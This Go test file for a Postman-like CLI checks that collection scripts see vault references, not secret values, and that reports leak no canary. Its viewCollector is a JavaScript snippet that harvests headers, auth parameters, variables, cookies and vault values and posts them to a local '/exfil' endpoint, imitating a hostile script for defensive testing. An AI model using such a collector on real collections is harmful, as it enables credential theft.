package root

import (
	"bytes"
	"context"
	"crypto/rand"
	"crypto/rsa"
	"crypto/x509"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/courier-run/courier/cmd/cmdutil"
)

// viewCanary is the secret the script-view tests plant: quotes, markup,
// a literal "%2F", a space, "+", "=", "/", "@" and "~", so that each
// encoding of it differs from the others. No ":" (Basic passwords may not
// hold one where the user name ends) and no "#" or "?" (URL syntax).
const viewCanary = `Cv9"Zq&7'Lm%2Fx Rt4+Wn8=Hy3/Jb6@Pd1!K~<>`

// viewPlain is a second secret with no URL or JSON syntax in it, for the
// places the canary cannot go: a URL's user:password@ and a JWT claim.
const viewPlain = "Pl4inCanary7xQ9zR2mW8vK"

// viewCollector runs in every prerequest and test script of the
// collection: it gathers everything a script can read about the request,
// its variables and the vault, and sends it to /exfil with pm.sendRequest,
// as a hostile script would. The server's copy is unmasked, so it shows
// exactly what the script could see.
var viewCollector = []string{
	"const seen = [pm.info.eventName + ' ' + pm.info.requestName];",
	"const add = (k, f) => { try { seen.push(k + '=' + f()) } catch (e) { seen.push(k + '!' + e.message) } };",
	"add('json', () => JSON.stringify(pm.request.toJSON()));",
	"add('url', () => pm.request.url.toString());",
	"add('qs', () => pm.request.url.getQueryString());",
	"add('query', () => JSON.stringify(pm.request.url.query.toObject()));",
	"add('path', () => pm.request.url.getPath());",
	"add('headers', () => JSON.stringify(pm.request.headers.toObject()));",
	"add('hdrs', () => pm.request.headers.map(h => h.toString()).join('|'));",
	"add('auth', () => JSON.stringify(pm.request.auth ? pm.request.auth.toJSON() : null));",
	"add('authParams', () => JSON.stringify(pm.request.auth ? pm.request.auth.parameters().toObject() : null));",
	"add('body', () => pm.request.body ? pm.request.body.toString() : '');",
	"add('legacy', () => JSON.stringify({u: request.url, h: request.headers, d: request.data}));",
	"add('replaceIn', () => pm.variables.replaceIn('{{vault:canary}} {{token}} <<vault:canary>>'));",
	"add('vars', () => JSON.stringify(pm.variables.toObject()));",
	"add('env', () => JSON.stringify(pm.environment.toObject()));",
	"add('cookies', () => JSON.stringify(pm.cookies.toObject()));",
	"try { seen.push('vault=' + await pm.vault.get('canary')) } catch (e) { seen.push('vault!' + e.message) }",
	"await new Promise(done => pm.sendRequest({url: pm.variables.get('base') + '/exfil', method: 'POST',",
	"  body: {mode: 'raw', raw: seen.join('\\n')}}, () => done()));",
}

// TestScriptsSeeVaultReferences: without --vault-scripts a script sees
// {{vault:NAME}} wherever the request carried a vault value (url, headers,
// auth, body, the legacy request object, replaceIn) and what an auth
// helper signed with one as ***, while the server gets the value; with
// --vault-scripts it sees the values, as in Postman's runtime. Each row is
// one path a secret takes into the request; the script's view is checked
// at the server it was sent to, unmasked, for the canary in any form.
func TestScriptsSeeVaultReferences(t *testing.T) {
	t.Parallel()
	runVaultView(t, map[string]string{"COURIER_VAULT_CANARY": viewCanary, "COURIER_VAULT_PLAIN": viewPlain}, "canary", "plain")
}

// TestScriptsSeeVaultReferencesKeyring is the same run with the canary in
// the real OS keyring (Secret Service under dbus-run-session in CI).
func TestScriptsSeeVaultReferencesKeyring(t *testing.T) {
	name := fmt.Sprintf("courier-view-canary-%d", os.Getpid())
	plain := fmt.Sprintf("courier-view-plain-%d", os.Getpid())
	realKeyring(t, map[string]string{name: viewCanary, plain: viewPlain})
	runVaultView(t, nil, name, plain)
}

type viewItem struct {
	name string
	req  map[string]any
	// test holds the item's own assertions on what its test script sees
	// without --vault-scripts.
	test []string
	// wire is what the server must have received from this item's request
	// (the value went out), checked as a substring of the recorded request.
	wire string
}

func runVaultView(t *testing.T, env map[string]string, secretName, plainName string) {
	var mu sync.Mutex
	var wire, exfil bytes.Buffer
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		mu.Lock()
		if r.URL.Path == "/exfil" {
			exfil.Write(body)
			exfil.WriteString("\n----\n")
		} else {
			fmt.Fprintf(&wire, "%s %s\n", r.Method, r.RequestURI)
			for k, vs := range r.Header {
				fmt.Fprintf(&wire, "%s: %s\n", k, strings.Join(vs, ", "))
			}
			wire.Write(body)
			wire.WriteString("\n----\n")
		}
		mu.Unlock()
		switch {
		case strings.HasPrefix(r.URL.Path, "/digest") && r.Header.Get("Authorization") == "":
			w.Header().Set("WWW-Authenticate", `Digest realm="view", nonce="n0nce", qop="auth", algorithm="MD5"`)
			w.WriteHeader(http.StatusUnauthorized)
			return
		case strings.HasPrefix(r.URL.Path, "/redirect"):
			http.Redirect(w, r, "/wire/landed", http.StatusFound)
			return
		}
		// Never an echo: what a server sends back is the server's business.
		w.Header().Set("Content-Type", "application/json")
		_, _ = w.Write([]byte(`{"ok":true}`))
	}))
	t.Cleanup(srv.Close)

	ref := "{{vault:" + secretName + "}}"
	sub := func(s string) string { return strings.ReplaceAll(s, "{{vault:canary}}", ref) }
	kv := func(pairs ...string) []any {
		var out []any
		for i := 0; i < len(pairs); i += 2 {
			out = append(out, map[string]any{"key": pairs[i], "value": sub(pairs[i+1])})
		}
		return out
	}
	hdr := func(name string) string {
		return fmt.Sprintf("pm.test('%s reads as the reference', () => pm.expect(pm.request.headers.get('%s')).to.equal('%s'));", name, name, ref)
	}
	basicUser := base64.StdEncoding.EncodeToString([]byte("user:" + ref))
	asapKey, err := rsa.GenerateKey(rand.Reader, 2048)
	require.NoError(t, err)
	asapDER, err := x509.MarshalPKCS8PrivateKey(asapKey)
	require.NoError(t, err)
	asapPEM := string(pem.EncodeToMemory(&pem.Block{Type: "PRIVATE KEY", Bytes: asapDER}))
	items := []viewItem{
		{name: "header", req: map[string]any{"method": "GET", "url": "{{base}}/wire/h", "header": kv("X-Key", "{{vault:canary}}")},
			test: []string{hdr("X-Key")}, wire: "X-Key: " + viewCanary},
		{name: "env variable holding a reference", req: map[string]any{"method": "GET", "url": "{{base}}/wire/env", "header": kv("X-Token", "Bearer {{token}}")},
			test: []string{"pm.test('sees the reference', () => pm.expect(pm.request.headers.get('X-Token')).to.equal('Bearer " + ref + "'));",
				"pm.test('replaceIn leaves it', () => pm.expect(pm.variables.replaceIn('{{token}}')).to.equal('" + ref + "'));"},
			wire: "X-Token: Bearer " + viewCanary},
		{name: "url path and query", req: map[string]any{"method": "GET", "url": "{{base}}/wire/p/{{vault:canary}}?k={{vault:canary}}&plain=1"},
			test: []string{"pm.test('query reads as the reference', () => pm.expect(pm.request.url.query.get('k')).to.equal('" + ref + "'));",
				"pm.test('url has it', () => pm.expect(pm.request.url.toString()).to.include('" + ref + "'));"},
			wire: url.QueryEscape("Cv9\"Zq")},
		{name: "raw body", req: map[string]any{"method": "POST", "url": "{{base}}/wire/raw",
			"body": map[string]any{"mode": "raw", "raw": sub(`{"secret":"{{vault:canary}}"}`)}},
			test: []string{"pm.test('body reads as the reference', () => pm.expect(pm.request.body.raw).to.include('" + ref + "'));"},
			wire: viewCanary},
		{name: "urlencoded body", req: map[string]any{"method": "POST", "url": "{{base}}/wire/form",
			"body": map[string]any{"mode": "urlencoded", "urlencoded": kv("s", "{{vault:canary}}")}},
			test: []string{"pm.test('field reads as the reference', () => pm.expect(pm.request.body.urlencoded.get('s')).to.equal('" + ref + "'));"},
			wire: url.QueryEscape("Cv9\"Zq&7")},
		{name: "formdata body", req: map[string]any{"method": "POST", "url": "{{base}}/wire/multi",
			"body": map[string]any{"mode": "formdata", "formdata": kv("s", "{{vault:canary}}")}},
			test: []string{"pm.test('field reads as the reference', () => pm.expect(pm.request.body.formdata.get('s')).to.equal('" + ref + "'));"},
			wire: viewCanary},
		// Values that are not strings keep their type for scripts, the
		// references inside them too.
		{name: "typed header and form row", req: map[string]any{"method": "POST", "url": "{{base}}/wire/typed",
			"header": []any{map[string]any{"key": "X-Typed", "value": []any{sub("{{vault:canary}}"), 1}}},
			"body":   map[string]any{"mode": "urlencoded", "urlencoded": []any{map[string]any{"key": "t", "value": []any{sub("{{vault:canary}}"), 2}}}}},
			test: []string{"pm.test('typed header reads the reference', () => pm.expect(pm.request.headers.get('X-Typed')).to.eql(['" + ref + "', 1]));",
				"pm.test('typed row reads the reference', () => pm.expect(pm.request.body.urlencoded.one('t').value).to.eql(['" + ref + "', 2]));"},
			wire: "t=" + strings.ReplaceAll(url.QueryEscape(viewCanary), "+", "%20") + "&t=2"},
		{name: "graphql body", req: map[string]any{"method": "POST", "url": "{{base}}/wire/gql",
			"body": map[string]any{"mode": "graphql", "graphql": map[string]any{"query": "{ q }", "variables": sub(`{"s":"{{vault:canary}}"}`)}}},
			test: []string{"pm.test('variables read as the reference', () => pm.expect(pm.request.body.graphql.variables).to.include('" + ref + "'));"},
			wire: "Zq&7"},
		{name: "basic auth", req: map[string]any{"method": "GET", "url": "{{base}}/wire/basic",
			"auth": map[string]any{"type": "basic", "basic": kv("username", "user", "password", "{{vault:canary}}")}},
			test: []string{"pm.test('auth reads as the reference', () => pm.expect(pm.request.auth.parameters().get('password')).to.equal('" + ref + "'));",
				"pm.test('header is built from the reference', () => pm.expect(pm.request.headers.get('Authorization')).to.equal('Basic " + basicUser + "'));"},
			wire: "Authorization: Basic " + base64.StdEncoding.EncodeToString([]byte("user:"+viewCanary))},
		{name: "bearer auth", req: map[string]any{"method": "GET", "url": "{{base}}/wire/bearer",
			"auth": map[string]any{"type": "bearer", "bearer": kv("token", "{{vault:canary}}")}},
			test: []string{"pm.test('header reads as the reference', () => pm.expect(pm.request.headers.get('Authorization')).to.equal('Bearer " + ref + "'));"},
			wire: "Authorization: Bearer " + viewCanary},
		{name: "api key in query", req: map[string]any{"method": "GET", "url": "{{base}}/wire/apikey",
			"auth": map[string]any{"type": "apikey", "apikey": kv("key", "api_key", "value", "{{vault:canary}}", "in", "query")}},
			test: []string{"pm.test('query reads as the reference', () => pm.expect(pm.request.url.query.get('api_key')).to.equal('" + ref + "'));"},
			wire: "api_key=Cv9"},
		{name: "digest auth", req: map[string]any{"method": "GET", "url": "{{base}}/digest",
			"auth": map[string]any{"type": "digest", "digest": kv("username", "user", "password", "{{vault:canary}}")}},
			test: []string{"pm.test('signed header reads ***', () => pm.expect(pm.request.headers.get('Authorization')).to.equal('***'));"},
			wire: `Digest username="user"`},
		{name: "oauth1 plaintext in query", req: map[string]any{"method": "GET", "url": "{{base}}/wire/oauth1",
			"auth": map[string]any{"type": "oauth1", "oauth1": append(kv("consumerKey", "ck", "consumerSecret", "{{vault:canary}}",
				"signatureMethod", "PLAINTEXT"), map[string]any{"key": "addParamsToHeader", "value": false})}},
			test: []string{"pm.test('signature reads ***', () => pm.expect(pm.request.url.query.get('oauth_signature')).to.equal('***'));",
				"pm.test('the rest stays', () => pm.expect(pm.request.url.query.get('oauth_consumer_key')).to.equal('ck'));"},
			wire: "GET /wire/oauth1?oauth_consumer_key=ck"},
		{name: "oauth1 hmac in header", req: map[string]any{"method": "GET", "url": "{{base}}/wire/oauth1h",
			"auth": map[string]any{"type": "oauth1", "oauth1": append(kv("consumerKey", "ck", "consumerSecret", "{{vault:canary}}",
				"signatureMethod", "HMAC-SHA1"), map[string]any{"key": "addParamsToHeader", "value": true})}},
			test: []string{"pm.test('signed header reads ***', () => pm.expect(pm.request.headers.get('Authorization')).to.equal('***'));"},
			wire: "Authorization: OAuth "},
		{name: "hawk", req: map[string]any{"method": "GET", "url": "{{base}}/wire/hawk",
			"auth": map[string]any{"type": "hawk", "hawk": kv("authId", "id1", "authKey", "{{vault:canary}}", "algorithm", "sha256")}},
			test: []string{"pm.test('signed header reads ***', () => pm.expect(pm.request.headers.get('Authorization')).to.equal('***'));"},
			wire: "Authorization: Hawk "},
		{name: "aws sigv4 with a session token", req: map[string]any{"method": "GET", "url": "{{base}}/wire/aws",
			"auth": map[string]any{"type": "awsv4", "awsv4": kv("accessKey", "AKIDEXAMPLE", "secretKey", "{{vault:canary}}",
				"region", "us-east-1", "service", "execute-api", "sessionToken", "{{vault:canary}}")}},
			test: []string{"pm.test('signed header reads ***', () => pm.expect(pm.request.headers.get('Authorization')).to.equal('***'));",
				"pm.test('session token reads as the reference', () => pm.expect(pm.request.headers.get('X-Amz-Security-Token')).to.equal('" + ref + "'));"},
			wire: "X-Amz-Security-Token: " + viewCanary},
		{name: "jwt in query", req: map[string]any{"method": "GET", "url": "{{base}}/wire/jwt",
			"auth": map[string]any{"type": "jwt", "jwt": kv("algorithm", "HS256", "secret", "{{vault:canary}}",
				"payload", `{"sub":"x"}`, "addTokenTo", "queryParam", "queryParamKey", "tok")}},
			test: []string{"pm.test('token reads ***', () => pm.expect(pm.request.url.query.get('tok')).to.equal('***'));"},
			wire: "tok=eyJ"},
		{name: "jwt in header", req: map[string]any{"method": "GET", "url": "{{base}}/wire/jwth",
			"auth": map[string]any{"type": "jwt", "jwt": kv("algorithm", "HS256", "secret", "{{vault:canary}}",
				"payload", `{"sub":"x"}`, "addTokenTo", "header")}},
			test: []string{"pm.test('signed header reads ***', () => pm.expect(pm.request.headers.get('Authorization')).to.equal('***'));"},
			wire: "Authorization: Bearer eyJ"},
		{name: "jwt claim in query", req: map[string]any{"method": "GET", "url": "{{base}}/wire/jwtclaim",
			"auth": map[string]any{"type": "jwt", "jwt": kv("algorithm", "HS256", "secret", "not-a-vault-value",
				"payload", `{"sub":"{{vault:plain}}"}`, "addTokenTo", "queryParam", "queryParamKey", "tok2")}},
			test: []string{"pm.test('token reads ***', () => pm.expect(pm.request.url.query.get('tok2')).to.equal('***'));",
				"pm.test('payload reads as the reference', () => pm.expect(pm.request.auth.parameters().get('payload')).to.include('{{vault:plain}}'));"},
			wire: "tok2=eyJhbGciOiJIUzI1NiJ9." + base64.RawURLEncoding.EncodeToString([]byte(`{"sub":"`+viewPlain+`"}`))},
		{name: "asap with a vault claim", req: map[string]any{"method": "GET", "url": "{{base}}/wire/asap",
			"auth": map[string]any{"type": "asap", "asap": kv("kid", "k1", "iss", "{{vault:canary}}", "aud", "a", "privateKey", asapPEM)}},
			test: []string{"pm.test('signed header reads ***', () => pm.expect(pm.request.headers.get('Authorization')).to.equal('***'));"},
			wire: "Authorization: Bearer eyJhbGciOiJSUzI1NiIsImtpZCI6ImsxIn0."},
		{name: "url user info", req: map[string]any{"method": "GET", "url": "http://user:{{vault:plain}}@" + strings.TrimPrefix(srv.URL, "http://") + "/wire/userinfo"},
			test: []string{"pm.test('user info reads as the reference', () => pm.expect(pm.request.url.toString()).to.include('user:{{vault:plain}}@'));"},
			wire: "Authorization: Basic " + base64.StdEncoding.EncodeToString([]byte("user:"+viewPlain))},
		{name: "redirect", req: map[string]any{"method": "GET", "url": "{{base}}/redirect/{{vault:canary}}"},
			test: []string{"pm.test('url reads as the reference', () => pm.expect(pm.request.url.toString()).to.include('" + ref + "'));"},
			wire: "GET /wire/landed"},
		{name: "sendRequest with a reference", req: map[string]any{"method": "GET", "url": "{{base}}/wire/sr"},
			test: []string{"await new Promise(d => pm.sendRequest({url: pm.variables.get('base') + '/wire/sent-by-script', header: {'X-Ref': '" + ref + "'}}, () => d()));"},
			wire: "X-Ref: " + ref},
	}
	var list []any
	for _, it := range items {
		ev := []any{}
		if it.test != nil {
			ev = append(ev, map[string]any{"listen": "test", "script": map[string]any{"exec": it.test}})
		}
		list = append(list, map[string]any{"name": it.name, "request": it.req, "event": ev})
	}
	collector := make([]string, len(viewCollector))
	for i, l := range viewCollector {
		collector[i] = sub(l)
	}
	coll := map[string]any{
		"info": map[string]any{"name": "vault view"},
		"item": list,
		"event": []any{
			map[string]any{"listen": "prerequest", "script": map[string]any{"exec": collector}},
			map[string]any{"listen": "test", "script": map[string]any{"exec": collector}},
		},
	}
	dir := t.TempDir()
	cb, err := json.Marshal(coll)
	require.NoError(t, err)
	// The secret's name: every reference, pm.vault.get's argument too.
	named := strings.NewReplacer("vault:canary", "vault:"+secretName, "vault.get('canary')", "vault.get('"+secretName+"')",
		"vault:plain", "vault:"+plainName).Replace(string(cb))
	collPath := writeFile(t, dir, "c.json", named)
	eb, err := json.Marshal(map[string]any{"name": "view", "values": []any{
		map[string]any{"key": "base", "value": srv.URL, "enabled": true},
		map[string]any{"key": "token", "value": ref, "enabled": true},
	}})
	require.NoError(t, err)
	envPath := writeFile(t, dir, "env.json", string(eb))
	canary := append(canaryForms(viewCanary), canaryForms(viewPlain)...)
	for _, mode := range []struct {
		name    string
		granted bool
	}{{"without --vault-scripts", false}, {"with --vault-scripts", true}} {
		mu.Lock()
		wire.Reset()
		exfil.Reset()
		mu.Unlock()
		out := filepath.Join(dir, strings.ReplaceAll(mode.name, " ", "_"))
		require.NoError(t, os.MkdirAll(out, 0o755))
		ios, _, stdout, stderr := cmdutil.Test()
		state := t.TempDir()
		ios.Env = func(k string) string {
			if k == "COURIER_STATE_DIR" {
				return state
			}
			return env[k]
		}
		args := []string{"run", collPath, "-e", envPath, "--color", "off", "--no-persist", "--verbose",
			"-r", "cli,json,junit,html",
			"--reporter-json-export", filepath.Join(out, "r.json"), "--reporter-junit-export", filepath.Join(out, "r.xml"),
			"--reporter-html-export", filepath.Join(out, "r.html"),
			"--export-environment", filepath.Join(out, "env.json"), "--export-globals", filepath.Join(out, "g.json"),
			"--export-collection", filepath.Join(out, "c.json"), "--export-cookie-jar", filepath.Join(out, "jar.json")}
		if mode.granted {
			args = append(args, "--vault-scripts")
		}
		code := Execute(context.Background(), ios, args)
		mu.Lock()
		gotWire, gotExfil := wire.String(), exfil.String()
		mu.Unlock()
		for _, it := range items {
			if !strings.Contains(gotWire, it.wire) {
				t.Errorf("%s, %s: the request did not carry %q", mode.name, it.name, it.wire)
			}
		}
		if !strings.Contains(gotWire, "GET /wire/sent-by-script") || strings.Contains(gotWire, "X-Ref: "+viewCanary) {
			t.Errorf("%s: pm.sendRequest is sent as the script built it, with the reference", mode.name)
		}
		assert.Equal(t, 2*len(items), strings.Count(gotExfil, "\n----\n"), "%s: every script reported its view", mode.name)

		// What the auth helpers signed with the canary, as the server got
		// it: neither scripts (without the grant) nor any output may show it.
		forms := append([]canaryForm(nil), canary...)
		signed := signaturesIn(gotWire)
		if len(signed) < 6 {
			t.Errorf("%s: want the digest, OAuth 1, Hawk, AWS and JWT signatures on the wire, got %q", mode.name, signed)
		}
		for _, sig := range signed {
			forms = append(forms, canaryForm{"signature", sig})
		}
		if !mode.granted {
			if code != cmdutil.ExitOK {
				t.Errorf("not every reference assertion holds (exit %d):\n%s\n%s", code, failuresOf(stdout.String()), stderr.String())
			}
			assert.True(t, strings.Contains(gotExfil, "vault!Vault access denied"), "pm.vault.get is denied")
			for _, f := range forms {
				if i := strings.Index(gotExfil, f.text); i >= 0 {
					t.Errorf("a script saw the canary (%s) without --vault-scripts:\n%s", f.name, around(gotExfil, i))
				}
			}
		} else {
			// The script saw the values, so the check above can fail.
			assert.True(t, strings.Contains(gotExfil, "vault="+viewCanary), "pm.vault.get gave the value")
			assert.True(t, strings.Contains(gotExfil, "x-key\":\"Cv9\\\"Zq"), "pm.request.headers gave the value")
		}
		outputs := map[string][]byte{"stdout": stdout.Bytes(), "stderr": stderr.Bytes()}
		entries, err := os.ReadDir(out)
		require.NoError(t, err)
		for _, e := range entries {
			outputs[e.Name()] = mustRead(t, filepath.Join(out, e.Name()))
		}
		if len(outputs) != 9 {
			names := make([]string, 0, len(outputs))
			for n := range outputs {
				names = append(names, n)
			}
			t.Fatalf("%s: every report and export was written: got %v", mode.name, names)
		}
		for name, data := range outputs {
			for _, f := range forms {
				if i := bytes.Index(data, []byte(f.text)); i >= 0 {
					t.Errorf("%s: %s shows the canary (%s):\n%s", mode.name, name, f.name, around(string(data), i))
				}
			}
		}
	}
}

type canaryForm struct{ name, text string }

// canaryForms are 12-character pieces of the canary in every form a script
// or a report could carry it: as is, base64 (also inside Basic
// credentials), hex, percent-encoded by each encoder, JSON-escaped.
func canaryForms(s string) []canaryForm {
	full := map[string]string{
		"raw":                s,
		"base64":             base64.StdEncoding.EncodeToString([]byte(s)),
		"base64url":          base64.RawURLEncoding.EncodeToString([]byte(s)),
		"basic credentials":  base64.StdEncoding.EncodeToString([]byte("user:" + s)),
		"hex":                hex.EncodeToString([]byte(s)),
		"HEX":                strings.ToUpper(hex.EncodeToString([]byte(s))),
		"query escape":       url.QueryEscape(s),
		"path escape":        url.PathEscape(s),
		"encodeURIComponent": strings.NewReplacer("%21", "!", "%27", "'", "%28", "(", "%29", ")", "%2A", "*", "+", "%20").Replace(url.QueryEscape(s)),
		"lower-case escapes": strings.ToLower(url.QueryEscape(s)),
		"escaped twice":      url.QueryEscape(url.QueryEscape(s)),
		"lower case":         strings.ToLower(s),
		"jwt claim":          base64.RawURLEncoding.EncodeToString([]byte(`{"sub":"` + s + `"}`)),
		"json":               strings.Trim(mustJSON(s), `"`),
	}
	var out []canaryForm
	seen := map[string]bool{}
	for name, f := range full {
		// Pieces from a few places, so a form cut short or embedded in a
		// longer encoding (Basic, a JWT claim) is still found.
		for _, at := range []int{0, len(f) / 3, len(f) - 12} {
			if at < 0 || at+12 > len(f) {
				continue
			}
			p := f[at : at+12]
			if !seen[p] {
				seen[p] = true
				out = append(out, canaryForm{name, p})
			}
		}
	}
	return out
}

func mustJSON(v any) string {
	b, _ := json.Marshal(v)
	return string(b)
}

func around(s string, i int) string {
	lo, hi := max(0, i-150), min(len(s), i+150)
	return fmt.Sprintf("%q", s[lo:hi])
}

// failuresOf is the failure table at the end of the cli output.
func failuresOf(out string) string {
	if i := strings.LastIndex(out, "#  failure"); i >= 0 {
		return out[i:]
	}
	return around(out, len(out)-1)
}

// signatureRE finds what the auth helpers sign: a digest response, a Hawk
// mac, an AWS signature, an OAuth 1 HMAC signature, a JWT.
var signatureRE = regexp.MustCompile(`response="([0-9a-f]{32})"|mac="([^"]+)"|Signature=([0-9a-f]{64})|oauth_signature="([^"]+)"|(eyJ[A-Za-z0-9_-]+\.eyJ[A-Za-z0-9_-]+\.[A-Za-z0-9_-]+)`)

func signaturesIn(wire string) []string {
	var out []string
	for _, m := range signatureRE.FindAllStringSubmatch(wire, -1) {
		for _, g := range m[1:] {
			if g != "" && !slices.Contains(out, g) {
				out = append(out, g)
			}
		}
	}
	return out
}

// TestReferencedRequestSeesVaultReferences: a request run with
// pm.execution.runRequest has its own test script, which sees the
// references too, as the item's scripts do.
func TestReferencedRequestSeesVaultReferences(t *testing.T) {
	t.Parallel()
	var mu sync.Mutex
	var exfil, wire strings.Builder
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		mu.Lock()
		if r.URL.Path == "/exfil" {
			exfil.Write(body)
		} else {
			wire.WriteString(r.Header.Get("X-Key") + "\n")
		}
		mu.Unlock()
		_, _ = w.Write([]byte(`{"ok":true}`))
	}))
	t.Cleanup(srv.Close)
	send := "await new Promise(d => pm.sendRequest({url: '" + srv.URL + "/exfil', method: 'POST', body: {mode: 'raw', raw: JSON.stringify(pm.request.toJSON())}}, () => d()));"
	coll := map[string]any{"info": map[string]any{"name": "run request"}, "item": []any{
		map[string]any{"name": "runs the other", "request": srv.URL + "/first", "event": []any{map[string]any{"listen": "test",
			"script": map[string]any{"exec": []string{"const res = await pm.execution.runRequest('uses the vault');",
				"pm.test('ran it', () => pm.expect(res.code).to.equal(200));"}}}}},
		map[string]any{"name": "uses the vault", "request": map[string]any{"method": "GET", "url": srv.URL + "/second",
			"header": []any{map[string]any{"key": "X-Key", "value": "{{vault:plain}}"}}},
			"event": []any{map[string]any{"listen": "test", "script": map[string]any{"exec": []string{send,
				"pm.test('sees the reference', () => pm.expect(pm.request.headers.get('X-Key')).to.equal('{{vault:plain}}'));"}}}}},
	}}
	cb, err := json.Marshal(coll)
	require.NoError(t, err)
	collPath := writeFile(t, t.TempDir(), "c.json", string(cb))
	ios, _, stdout, stderr := cmdutil.Test()
	state := t.TempDir()
	setEnv(ios, map[string]string{
		"COURIER_STATE_DIR":   state,
		"COURIER_VAULT_PLAIN": viewPlain,
	})
	code := Execute(context.Background(), ios, []string{"run", collPath, "--no-persist", "--color", "off"})
	require.Equal(t, cmdutil.ExitOK, code, failuresOf(stdout.String())+stderr.String())
	mu.Lock()
	defer mu.Unlock()
	assert.Equal(t, 2, strings.Count(wire.String(), viewPlain), "the referenced request ran twice, with the value")
	assert.Contains(t, exfil.String(), "{{vault:plain}}")
	assert.NotContains(t, exfil.String(), viewPlain)
}

// TestHostLabelSeesVaultReference: a vault value in a host name goes out
// lower-cased in the Host header; the script still sees the reference
// there and in the URL (the request itself fails: .invalid never
// resolves).
func TestHostLabelSeesVaultReference(t *testing.T) {
	t.Parallel()
	var mu sync.Mutex
	var exfil strings.Builder
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		mu.Lock()
		exfil.Write(body)
		mu.Unlock()
	}))
	t.Cleanup(srv.Close)
	coll := writeFile(t, t.TempDir(), "c.json", `{"info":{"name":"host"},"item":[{"name":"h","request":"http://{{vault:plain}}.invalid/x",
	 "event":[{"listen":"test","script":{"exec":[
	   "pm.test('host reads as the reference', () => pm.expect(pm.request.headers.get('Host')).to.equal('{{vault:plain}}.invalid'));",
	   "await new Promise(d => pm.sendRequest({url: '`+srv.URL+`/exfil', method: 'POST', body: {mode: 'raw', raw: JSON.stringify(pm.request.toJSON())}}, () => d()));"
	 ]}}]}]}`)
	ios, _, stdout, stderr := cmdutil.Test()
	state := t.TempDir()
	setEnv(ios, map[string]string{
		"COURIER_STATE_DIR":   state,
		"COURIER_VAULT_PLAIN": viewPlain,
	})
	code := Execute(context.Background(), ios, []string{"run", coll, "--no-persist", "--color", "off"})
	require.Equal(t, cmdutil.ExitFailures, code, "the request fails, the assertion holds\n%s", stderr.String())
	assert.NotContains(t, failuresOf(stdout.String()), "AssertionError")
	mu.Lock()
	defer mu.Unlock()
	require.Contains(t, exfil.String(), "{{vault:plain}}")
	for _, f := range canaryForms(viewPlain) {
		assert.NotContains(t, exfil.String(), f.text, f.name)
	}
}
